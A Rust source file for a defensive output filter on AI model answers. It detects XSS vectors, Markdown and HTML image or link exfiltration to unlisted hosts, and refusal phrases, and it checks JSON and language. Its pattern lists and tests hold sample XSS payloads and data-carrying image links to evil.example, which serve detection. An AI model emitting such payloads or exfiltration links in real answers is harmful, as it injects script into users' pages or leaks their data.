//! Output checks on answers: script/HTML injection (XSS vectors), markdown images and links that
//! carry data to outside hosts (exfiltration), refusal phrases (a sign of probing), and the
//! parameterised checks policy wires from configuration: length limit, must-be-JSON, expected
//! language.

use aho_corasick::{
    AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, Anchored, Input, MatchKind, StartKind,
};

use super::{DetectorId, Finding};

const SCRIPT: &[&str] = &[
    "<script",
    "javascript:",
    "vbscript:",
    "<iframe",
    "<object",
    "<embed",
    "srcdoc=",
    "data:text/html",
    "<svg",
    "<img",
    "<body",
    "<meta http-equiv",
    "<link ",
    "<style",
    "expression(",
    "<form",
    "<base ",
    "document.cookie",
    "<math",
];

/// Event-handler attributes: dangerous only inside a tag.
const HANDLERS: &[&str] = &[
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onfocus",
    "onblur",
    "onanimationstart",
    "onanimationend",
    "ontoggle",
    "onbegin",
    "onpointerover",
    "onkeydown",
    "onkeyup",
    "onkeypress",
    "onchange",
    "oninput",
    "onsubmit",
    "onmousedown",
    "onmouseup",
    "ontransitionend",
    "onpageshow",
    "onhashchange",
    "onwheel",
    "onscroll",
    "onresize",
];

const REFUSAL: &[&str] = &[
    "i'm sorry, but i can't",
    "i’m sorry, but i can’t",
    "i am sorry, but i cannot",
    "i'm sorry, but i cannot",
    "i cannot help with",
    "i can't help with",
    "i can’t help with",
    "i can't assist with",
    "i can’t assist with",
    "i cannot assist with",
    "i'm not able to help",
    "i am not able to help",
    "i'm unable to",
    "i am unable to",
    "i won't be able to",
    "as an ai language model",
    "as an ai, i",
    "against my guidelines",
    "i must decline",
    "i cannot comply",
    "i can't comply",
    "i cannot provide",
    "i can't provide",
    "i can’t provide",
    "i'm not allowed to",
    "i am not allowed to",
    "i cannot fulfill",
    "i can't fulfill",
    "violates my",
    "not able to provide that",
    "i cannot share",
    "i can't share",
    "lo siento, pero no puedo",
    "no puedo ayudar",
    "je suis desole, mais je ne peux pas",
    "je ne peux pas vous aider",
    "es tut mir leid, aber ich kann",
    "ich kann dabei nicht helfen",
    "mi dispiace, ma non posso",
    "non posso aiutarti",
    "desculpe, mas nao posso",
    "nao posso ajudar",
    "извините, но я не могу",
    "я не могу помочь",
    "抱歉，我无法",
    "我不能帮助",
];

pub struct OutputDetector {
    script: Option<AhoCorasick>,
    /// Per anchor byte, where `SCRIPT` matches it anchors can start (see `script_anchors`);
    /// None if some pattern has no anchor byte.
    script_anchors: Option<Vec<(u8, AnchorStarts)>>,
    handlers: Option<AhoCorasick>,
    refusal: Option<AhoCorasick>,
}

impl Default for OutputDetector {
    fn default() -> Self {
        Self::new()
    }
}

fn ci(pats: &[&str], start: StartKind) -> Option<AhoCorasick> {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::LeftmostLongest)
        .kind(Some(AhoCorasickKind::DFA))
        .start_kind(start)
        .build(pats)
        .ok()
}

/// Bytes that prose has few of; each `SCRIPT` pattern holds one at a fixed offset.
const ANCHOR_BYTES: &[u8] = b"<:=(.";

/// Where matches anchored by one byte start: `offset` bytes before it, at a byte that is (in
/// lower case) one of `firsts`.
type AnchorStarts = Vec<(usize, Vec<u8>)>;

/// For each anchor byte, the offsets at which it stands in the patterns that it anchors (the
/// first anchor byte found in each pattern), with those patterns' first bytes. None if a
/// pattern holds no anchor byte.
fn script_anchors(pats: &[&str]) -> Option<Vec<(u8, AnchorStarts)>> {
    let mut anchors: Vec<(u8, AnchorStarts)> = Vec::new();
    for p in pats {
        let (off, byte) = ANCHOR_BYTES
            .iter()
            .find_map(|a| p.bytes().position(|c| c == *a).map(|o| (o, *a)))?;
        let first = p.as_bytes().first()?.to_ascii_lowercase();
        let i = match anchors.iter().position(|(b, _)| *b == byte) {
            Some(i) => i,
            None => {
                anchors.push((byte, Vec::new()));
                anchors.len() - 1
            }
        };
        let starts = &mut anchors.get_mut(i)?.1;
        match starts.iter_mut().find(|(o, _)| *o == off) {
            Some((_, firsts)) if firsts.contains(&first) => {}
            Some((_, firsts)) => firsts.push(first),
            None => starts.push((off, vec![first])),
        }
    }
    Some(anchors)
}

fn finding(detector: DetectorId, kind: &'static str, a: usize, b: usize, score: f32) -> Finding {
    Finding {
        detector,
        kind,
        span: a..b,
        score,
    }
}

impl OutputDetector {
    pub fn new() -> Self {
        OutputDetector {
            // Anchored searches too: `script_matches` runs them at candidate starts.
            script: ci(SCRIPT, StartKind::Both),
            script_anchors: script_anchors(SCRIPT),
            handlers: ci(HANDLERS, StartKind::Unanchored),
            refusal: ci(REFUSAL, StartKind::Unanchored),
        }
    }

    /// Script, exfiltration (links and images to hosts outside `allowed_hosts` and their
    /// subdomains, lower case) and refusal checks.
    pub fn scan(&self, text: &str, allowed_hosts: &[String], out: &mut Vec<Finding>) {
        self.scripts(text, out);
        exfiltration(text, allowed_hosts, out);
        if let Some(ac) = &self.refusal {
            // Only the opening of an answer: a refusal later on is usually a quote.
            let head_len = text.floor_char_boundary(400);
            if let Some(m) = text.get(..head_len).and_then(|h| ac.find(h)) {
                out.push(finding(
                    DetectorId::OutputRefusal,
                    "REFUSAL",
                    m.start(),
                    m.end(),
                    0.8,
                ));
            }
        }
    }

    /// The non-overlapping leftmost-longest `SCRIPT` matches, as `find_iter` gives them, but
    /// the automaton runs only at the few places where a match can start: `offset` bytes before
    /// each anchor byte, at one of the first bytes of the patterns it anchors. Every match
    /// starts at such a place, so trying them in order, the
    /// longest match at each, skipping those inside the previous match, gives the same list.
    fn script_matches(&self, ac: &AhoCorasick, text: &str) -> Vec<aho_corasick::Match> {
        let Some(anchors) = &self.script_anchors else {
            return ac.find_iter(text).collect();
        };
        let b = text.as_bytes();
        // Candidate starts as a bit set: marked in any order, read back in order.
        let mut starts = vec![0u64; b.len().div_ceil(64)];
        for (byte, offs) in anchors {
            for p in memchr::memchr_iter(*byte, b) {
                for (o, firsts) in offs {
                    let Some(s) = p.checked_sub(*o) else { continue };
                    if b.get(s)
                        .is_some_and(|c| firsts.contains(&c.to_ascii_lowercase()))
                    {
                        if let Some(w) = starts.get_mut(s / 64) {
                            *w |= 1 << (s % 64);
                        }
                    }
                }
            }
        }
        let mut found = Vec::new();
        let mut pos = 0;
        let set = starts.iter().enumerate().flat_map(|(k, &w)| {
            let mut w = w;
            std::iter::from_fn(move || {
                (w != 0).then(|| {
                    let bit = w.trailing_zeros() as usize;
                    w &= w - 1;
                    k * 64 + bit
                })
            })
        });
        for s in set {
            if s < pos {
                continue;
            }
            let input = Input::new(text).span(s..text.len()).anchored(Anchored::Yes);
            match ac.try_find(input) {
                Ok(Some(m)) => {
                    pos = m.end();
                    found.push(m);
                }
                Ok(None) => {}
                // Anchored searches are built in (`ci`); should that change, scan it all.
                Err(_) => return ac.find_iter(text).collect(),
            }
        }
        found
    }

    fn scripts(&self, text: &str, out: &mut Vec<Finding>) {
        let b = text.as_bytes();
        if let Some(ac) = &self.script {
            for m in self.script_matches(ac, text) {
                let pat = SCRIPT.get(m.pattern().as_usize()).copied().unwrap_or("");
                // <img>/<svg>/<body>… are only dangerous with a handler or script URL; the
                // handler pass below reports those.
                if matches!(
                    pat,
                    "<img" | "<svg" | "<body" | "<style" | "<link " | "<math" | "<form"
                ) {
                    continue;
                }
                let end = tag_end(b, m.end());
                out.push(finding(
                    DetectorId::OutputScript,
                    "SCRIPT",
                    m.start(),
                    end,
                    0.9,
                ));
            }
        }
        // A handler counts only inside a tag: without a '<' there is nothing to look for.
        if let Some(ac) = self.handlers.as_ref().filter(|_| b.contains(&b'<')) {
            for m in ac.find_iter(text) {
                let before = m.start().checked_sub(1).and_then(|i| b.get(i));
                let mut p = m.end();
                while b.get(p) == Some(&b' ') {
                    p += 1;
                }
                let in_tag = tag_open(b, m.start()).is_some_and(|lt| {
                    !b[lt..m.start()]
                        .iter()
                        .any(|c| matches!(c, b'>' | b'\n' | b'`'))
                });
                if b.get(p) == Some(&b'=')
                    && before
                        .is_some_and(|c| matches!(c, b' ' | b'/' | b'"' | b'\'' | b'\t' | b'\n'))
                    && in_tag
                {
                    let start = tag_open(b, m.start()).unwrap_or(m.start());
                    if !out
                        .iter()
                        .any(|f| f.detector == DetectorId::OutputScript && f.span.start == start)
                    {
                        out.push(finding(
                            DetectorId::OutputScript,
                            "EVENT_HANDLER",
                            start,
                            tag_end(b, p),
                            0.9,
                        ));
                    }
                }
            }
        }
    }
}

/// The last `<` before `at` that opens a tag (followed by a letter).
fn tag_open(b: &[u8], at: usize) -> Option<usize> {
    let head = b.get(..at)?;
    let mut end = head.len();
    while let Some(lt) = head.get(..end)?.iter().rposition(|c| *c == b'<') {
        if head.get(lt + 1).is_some_and(|c| c.is_ascii_alphabetic()) {
            return Some(lt);
        }
        end = lt;
    }
    None
}

fn tag_end(b: &[u8], from: usize) -> usize {
    let limit = (from + 512).min(b.len());
    b.get(from..limit)
        .and_then(|t| t.iter().position(|c| *c == b'>'))
        .map(|p| from + p + 1)
        .unwrap_or(limit)
}

/// Markdown images and links, and HTML `src=`/`href=` URLs, pointing to hosts outside
/// `allowed_hosts` with data in the URL (query string or long path segment). Images fire
/// without a click, so they score higher than links.
pub fn exfiltration(text: &str, allowed_hosts: &[String], out: &mut Vec<Finding>) {
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        // Every link has a ']' ("](") or an '=' ("src=", "href="): jump to the next one, and
        // from an '=' back to where its attribute name would start.
        let Some(p) = b.get(i..).and_then(|t| memchr::memchr2(b']', b'=', t)) else {
            break;
        };
        let p = i + p;
        i = if b[p] == b']' {
            p
        } else if p >= i + 4 && b[p - 4..p].eq_ignore_ascii_case(b"href") {
            p - 4
        } else if p >= i + 3 {
            p - 3
        } else {
            i = p + 1;
            continue;
        };
        if let Some(next) = link_at(text, i, allowed_hosts, out) {
            i = next;
            continue;
        }
        i = p + 1;
    }
}

/// Checks for a link starting at `i` (a Markdown "](" or an HTML `src=`/`href=`), records it
/// if risky, and returns where scanning continues; `None` if no link starts there.
fn link_at(
    text: &str,
    i: usize,
    allowed_hosts: &[String],
    out: &mut Vec<Finding>,
) -> Option<usize> {
    let b = text.as_bytes();
    // Markdown: ](url  — image if the bracket opened with "![".
    if b[i] == b']' && b.get(i + 1) == Some(&b'(') {
        let url_start = i + 2;
        let url_end = url_end(b, url_start);
        let open = b.get(..i).and_then(|h| h.iter().rposition(|c| *c == b'['));
        let image = open.is_some_and(|o| o > 0 && b.get(o - 1) == Some(&b'!'));
        let start = open.map(|o| if image { o - 1 } else { o }).unwrap_or(i);
        if let Some(url) = text.get(url_start..url_end) {
            if let Some(score) = url_risk(url, allowed_hosts, image) {
                let kind = if image {
                    "MARKDOWN_IMAGE"
                } else {
                    "MARKDOWN_LINK"
                };
                out.push(finding(
                    DetectorId::OutputExfiltration,
                    kind,
                    start,
                    (url_end + 1).min(b.len()),
                    score,
                ));
            }
        }
        return Some(url_end.max(i + 1));
    }
    // HTML: src= / href= with a quoted URL.
    if (b[i] == b's' || b[i] == b'h')
        && (b
            .get(i..i + 5)
            .is_some_and(|s| s.eq_ignore_ascii_case(b"src=\"") || s.eq_ignore_ascii_case(b"src='"))
            || b.get(i..i + 6).is_some_and(|s| {
                s.eq_ignore_ascii_case(b"href=\"") || s.eq_ignore_ascii_case(b"href='")
            }))
    {
        let image = b[i] == b's';
        let url_start = i + if image { 5 } else { 6 };
        let url_end = url_end(b, url_start);
        if let Some(url) = text.get(url_start..url_end) {
            if let Some(score) = url_risk(url, allowed_hosts, image) {
                out.push(finding(
                    DetectorId::OutputExfiltration,
                    "HTML_URL",
                    i,
                    url_end,
                    score,
                ));
            }
        }
        return Some(url_end.max(i + 1));
    }
    None
}

fn url_end(b: &[u8], from: usize) -> usize {
    let mut e = from;
    while e < b.len() && !matches!(b[e], b')' | b' ' | b'"' | b'\'' | b'\n' | b'>' | b'<') {
        e += 1;
    }
    e
}

/// Risk of a URL carrying data out: None for relative URLs and allowed hosts.
fn url_risk(url: &str, allowed: &[String], image: bool) -> Option<f32> {
    let lower = url.to_ascii_lowercase();
    let rest = lower
        .strip_prefix("https://")
        .or_else(|| lower.strip_prefix("http://"))
        .or_else(|| lower.strip_prefix("//"))?;
    let host_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let host = rest.get(..host_end).unwrap_or("");
    let host = host.rsplit('@').next().unwrap_or(host);
    let host = host.split(':').next().unwrap_or(host);
    if allowed
        .iter()
        .any(|a| host == a || host.ends_with(&format!(".{a}")))
    {
        return None;
    }
    let tail = rest.get(host_end..).unwrap_or("");
    let query = tail.split_once('?').map(|(_, q)| q).unwrap_or("");
    let longest_value = query
        .split('&')
        .filter_map(|kv| kv.split_once('=').map(|(_, v)| v.len()))
        .max()
        .unwrap_or(0);
    let longest_segment = tail
        .split(['/', '?', '&', '='])
        .map(str::len)
        .max()
        .unwrap_or(0);
    let data =
        longest_value >= 12 || longest_segment >= 40 || query.contains('[') || query.contains('{');
    match (image, data) {
        (true, true) => Some(0.95),
        (true, false) => Some(0.5),
        (false, true) => Some(0.6),
        (false, false) => None,
    }
}

/// An `output_json` finding if `text` is not one JSON value (`NOT_JSON`) or is not an object
/// with every key of `required_keys` (`MISSING_KEY`). With `allow_fence`, a single fenced
/// code block (```json … ```) around the value is accepted, as models often add one.
pub fn check_json(text: &str, allow_fence: bool, required_keys: &[String]) -> Option<Finding> {
    let mut body = text.trim();
    if allow_fence {
        if let Some(inner) = body.strip_prefix("```") {
            let inner = inner.strip_prefix("json").unwrap_or(inner);
            body = inner.strip_suffix("```").unwrap_or(inner).trim();
        }
    }
    let kind = if required_keys.is_empty() {
        match serde_json::from_str::<serde::de::IgnoredAny>(body) {
            Ok(_) => return None,
            Err(_) => "NOT_JSON",
        }
    } else {
        // Only the top level is kept: nested values are skipped, not built.
        match serde_json::from_str::<Top>(body) {
            Ok(Top::Object(keys)) if required_keys.iter().all(|k| keys.contains_key(k)) => {
                return None
            }
            Ok(_) => "MISSING_KEY",
            Err(_) => "NOT_JSON",
        }
    };
    Some(finding(DetectorId::OutputJson, kind, 0, text.len(), 1.0))
}

/// A JSON value read only as far as its top-level keys.
#[derive(serde::Deserialize)]
#[serde(untagged)]
enum Top {
    Object(std::collections::BTreeMap<String, serde::de::IgnoredAny>),
    Other(serde::de::IgnoredAny),
}

/// Languages the detector can tell apart (by script, then by common function words).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Language {
    English,
    Spanish,
    French,
    German,
    Italian,
    Portuguese,
    Russian,
    Chinese,
    Japanese,
    Korean,
    Arabic,
    Other,
}

impl Language {
    pub fn code(self) -> &'static str {
        match self {
            Language::English => "en",
            Language::Spanish => "es",
            Language::French => "fr",
            Language::German => "de",
            Language::Italian => "it",
            Language::Portuguese => "pt",
            Language::Russian => "ru",
            Language::Chinese => "zh",
            Language::Japanese => "ja",
            Language::Korean => "ko",
            Language::Arabic => "ar",
            Language::Other => "other",
        }
    }

    /// The languages the detector tells apart (all but `Other`).
    pub const KNOWN: [Language; 11] = [
        Language::English,
        Language::Spanish,
        Language::French,
        Language::German,
        Language::Italian,
        Language::Portuguese,
        Language::Russian,
        Language::Chinese,
        Language::Japanese,
        Language::Korean,
        Language::Arabic,
    ];

    pub fn from_code(code: &str) -> Option<Self> {
        Self::KNOWN.into_iter().find(|l| l.code() == code)
    }
}

const STOPWORDS: &[(Language, &[&str])] = &[
    (
        Language::English,
        &[
            "the", "and", "is", "of", "to", "you", "that", "it", "with", "for", "are", "this",
        ],
    ),
    (
        Language::Spanish,
        &[
            "el", "la", "de", "que", "y", "en", "los", "es", "por", "para", "una", "con", "las",
        ],
    ),
    (
        Language::French,
        &[
            "le", "la", "les", "de", "et", "est", "une", "des", "que", "pour", "dans", "vous",
            "pas",
        ],
    ),
    (
        Language::German,
        &[
            "der", "die", "und", "ist", "das", "nicht", "ich", "sie", "mit", "den", "ein", "zu",
            "es",
        ],
    ),
    (
        Language::Italian,
        &[
            "il", "di", "che", "e", "la", "per", "non", "una", "sono", "gli", "con", "del", "della",
        ],
    ),
    (
        Language::Portuguese,
        &[
            "o", "de", "que", "e", "do", "da", "em", "um", "para", "nao", "uma", "os", "com",
            "voce",
        ],
    ),
];

/// Guesses the main language of `text`; None if there is too little text to tell.
pub fn detect_language(text: &str) -> Option<Language> {
    let (mut latin, mut cyr, mut han, mut kana, mut hangul, mut arabic) = (0, 0, 0, 0, 0, 0);
    for c in text.chars().take(4000) {
        match c as u32 {
            0x41..=0x5A | 0x61..=0x7A | 0xC0..=0x24F => latin += 1,
            0x400..=0x4FF => cyr += 1,
            0x3040..=0x30FF => kana += 1,
            0x4E00..=0x9FFF | 0x3400..=0x4DBF => han += 1,
            0xAC00..=0xD7AF | 0x1100..=0x11FF => hangul += 1,
            0x600..=0x6FF => arabic += 1,
            _ => {}
        }
    }
    let total = latin + cyr + han + kana + hangul + arabic;
    if total < 12 {
        return None;
    }
    if kana * 10 >= total {
        return Some(Language::Japanese);
    }
    for (n, l) in [
        (hangul, Language::Korean),
        (han, Language::Chinese),
        (cyr, Language::Russian),
        (arabic, Language::Arabic),
    ] {
        if n * 2 > total {
            return Some(l);
        }
    }
    if latin * 2 <= total {
        return Some(Language::Other);
    }
    let mut counts = [0usize; 6];
    for w in text
        .split(|c: char| !sluice_text::chars::is_alphabetic(c))
        .take(2000)
    {
        let w = w.to_lowercase();
        let w = w.replace('ã', "a");
        for (k, (_, words)) in STOPWORDS.iter().enumerate() {
            if words.contains(&w.as_str()) {
                counts[k] += 1;
            }
        }
    }
    let (best, n) = counts.iter().enumerate().max_by_key(|(_, n)| **n)?;
    if *n < 2 {
        return None;
    }
    STOPWORDS.get(best).map(|(l, _)| *l)
}

/// `OUTPUT_LANGUAGE` (kind = detected code) if the answer's language is not expected.
pub fn check_language(text: &str, allowed: &[Language]) -> Option<Finding> {
    let lang = detect_language(text)?;
    (!allowed.contains(&lang))
        .then(|| finding(DetectorId::OutputLanguage, lang.code(), 0, text.len(), 0.8))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The byte-by-byte scan `exfiltration` had before it jumped between `]` and `=`: every
    /// position is tried.
    fn exfiltration_reference(text: &str, allowed_hosts: &[String], out: &mut Vec<Finding>) {
        let b = text.as_bytes();
        let mut i = 0;
        while i < b.len() {
            match link_at(text, i, allowed_hosts, out) {
                Some(next) => i = next,
                None => i += 1,
            }
        }
    }

    proptest::proptest! {
        /// Running the script automaton only at anchor-derived starts finds exactly the matches
        /// of an unanchored scan of the whole text. Fragments overlap and nest patterns.
        #[test]
        fn script_candidates_find_the_same(parts in proptest::collection::vec(proptest::prop_oneof![
            proptest::prelude::Just("<SCRIPT".to_owned()),
            proptest::prelude::Just("JavaScript:".to_owned()),
            proptest::prelude::Just("vbscript:".to_owned()),
            proptest::prelude::Just("data:text/html".to_owned()),
            proptest::prelude::Just("srcdoc=".to_owned()),
            proptest::prelude::Just("expression(".to_owned()),
            proptest::prelude::Just("document.cookie".to_owned()),
            proptest::prelude::Just("<meta http-equiv".to_owned()),
            proptest::prelude::Just("<link ".to_owned()),
            "[<:=(.a-zA-Z ]{0,6}",
            "[ -~]{0,6}",
            "\\PC{0,4}",
        ], 0..10)) {
            let text = parts.concat();
            let d = detector();
            let ac = d.script.as_ref().expect("script automaton");
            let want: Vec<_> = ac.find_iter(&text).collect();
            proptest::prop_assert_eq!(d.script_matches(ac, &text), want);
        }

        /// Jumping to ']' and '=' finds exactly what looking at every byte found.
        #[test]
        fn exfiltration_jumps_find_the_same(parts in proptest::collection::vec(proptest::prop_oneof![
            proptest::prelude::Just("![a](https://evil.example/p.png?q=c2VjcmV0IHRva2Vu)".to_owned()),
            proptest::prelude::Just("[x](https://e.example/c?d=aGVsbG8gd29ybGQgc2VjcmV0) ".to_owned()),
            proptest::prelude::Just("<img src=\"https://e.example/x?q=c2VjcmV0IHRva2VuIGhlcmU\">".to_owned()),
            proptest::prelude::Just("<a HREF='https://e.example/aGVsbG8gd29ybGQgc2VjcmV0aGVsbG8'>".to_owned()),
            proptest::prelude::Just("Hsrc=\"".to_owned()),
            "[ -~]{0,6}",
            "[\\]\\[()=!hrefsc'\"]{0,6}",
        ], 0..8)) {
            let text = parts.concat();
            let (mut a, mut b) = (Vec::new(), Vec::new());
            exfiltration(&text, &[], &mut a);
            exfiltration_reference(&text, &[], &mut b);
            proptest::prop_assert_eq!(a, b);
        }
    }

    fn detector() -> &'static OutputDetector {
        static D: std::sync::OnceLock<OutputDetector> = std::sync::OnceLock::new();
        D.get_or_init(OutputDetector::new)
    }

    fn kinds(text: &str) -> Vec<&'static str> {
        let mut v = Vec::new();
        detector().scan(text, &[], &mut v);
        v.iter().map(|f| f.kind).collect()
    }

    #[test]
    fn table() {
        let cases: &[(&str, &[&str])] = &[
            ("Here: <script>alert(1)</script>", &["SCRIPT"]),
            ("<SCRIPT SRC=//x.example/a.js>", &["SCRIPT"]),
            ("<img src=x onerror=alert(1)>", &["EVENT_HANDLER"]),
            ("<svg/onload='console.log(1)'>", &["EVENT_HANDLER"]),
            ("[click](javascript:alert(1))", &["SCRIPT"]),
            ("The onload event fires when a page loads.", &[]),
            ("Use `x = 1 < 2` then onerror = handler in JS", &[]),
            (
                "![a](https://evil.example/p.png?q=c2VjcmV0IHRva2Vu)",
                &["MARKDOWN_IMAGE"],
            ),
            ("![logo](https://cdn.example/logo.png)", &["MARKDOWN_IMAGE"]),
            ("See [docs](https://docs.rs/regex) for more.", &[]),
            (
                "[x](https://evil.example/c?data=aGVsbG8gd29ybGQgc2VjcmV0)",
                &["MARKDOWN_LINK"],
            ),
            ("![rel](images/a.png)", &[]),
            ("I'm sorry, but I can't help with that.", &["REFUSAL"]),
            ("Sure! Here is the recipe.", &[]),
        ];
        for (t, want) in cases {
            assert_eq!(&kinds(t), want, "text {t:?}");
        }
    }

    #[test]
    fn allowed_hosts_pass() {
        let d = OutputDetector::new();
        let image = "![a](https://img.example.com/p.png?q=c2VjcmV0IHRva2Vu)";
        let mut v = Vec::new();
        d.scan(image, &["example.com".into()], &mut v);
        assert!(v.is_empty(), "{v:?}");
        d.scan(image, &["other.example.org".into()], &mut v);
        assert_eq!(v.len(), 1);
        // A host that only ends like an allowed one is not its subdomain.
        v.clear();
        d.scan(
            "![a](https://evilexample.com/p.png?q=c2VjcmV0IHRva2Vu)",
            &["example.com".into()],
            &mut v,
        );
        assert_eq!(v.len(), 1);
    }

    #[test]
    fn parameterised_checks() {
        assert!(check_json(" {\"a\": [1, 2]} ", false, &[]).is_none());
        assert!(check_json("```json\n{\"a\": 1}\n```", true, &[]).is_none());
        assert!(check_json("```json\n{\"a\": 1}\n```", false, &[]).is_some());
        assert!(check_json("Sure: {\"a\": 1}", true, &[]).is_some());
        let keys = ["a".to_owned(), "b".to_owned()];
        let kind = |t: &str| check_json(t, true, &keys).map(|f| f.kind);
        assert_eq!(kind(r#"{"a": 1, "b": {"c": [1]}, "d": null}"#), None);
        assert_eq!(kind(r#"{"a": 1}"#), Some("MISSING_KEY"));
        assert_eq!(kind(r#"[{"a": 1, "b": 2}]"#), Some("MISSING_KEY"));
        assert_eq!(kind(r#"{"a": 1, "b": "#), Some("NOT_JSON"));
        let en = [Language::English];
        assert!(
            check_language("The cat is on the mat and it is happy with this.", &en[..]).is_none()
        );
        assert_eq!(
            check_language(
                "El gato está en la casa y es muy feliz con los niños.",
                &en[..]
            )
            .map(|f| f.kind),
            Some("es")
        );
        assert_eq!(
            check_language("Кошка сидит на ковре и очень довольна.", &en[..]).map(|f| f.kind),
            Some("ru")
        );
        assert_eq!(
            check_language("猫坐在垫子上，非常高兴，今天天气很好。", &en[..]).map(|f| f.kind),
            Some("zh")
        );
        assert!(check_language("ok", &en[..]).is_none());
    }
}
